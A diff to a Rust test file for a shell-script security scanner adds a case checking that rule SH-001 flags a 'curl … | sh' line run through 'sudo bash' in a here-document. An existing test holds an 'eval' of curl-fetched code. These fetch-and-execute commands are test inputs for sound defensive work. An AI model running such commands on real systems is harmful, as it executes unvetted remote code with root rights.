@@ -128,6 +128,9 @@ fn sh001_substitution_forms() {
         let x = one(&h, "SH-001");
         assert_eq!((x.severity, x.line), (Severity::Critical, line), "{t}");
     }
+    // A here-document fed to a shell is that shell's script (hits at their own lines).
+    let h = hits("echo start\nsudo bash <<'EOF'\nset -e\ncurl -s https://x.example/i | sh\nEOF\n");
+    assert_eq!(one(&h, "SH-001").line, 4, "{h:#?}");
     // `eval` of fetched code is SH-001, not also SH-003.
     assert!(of(&hits("eval \"$(curl -s https://x.example/e)\""), "SH-003").is_empty());
 }
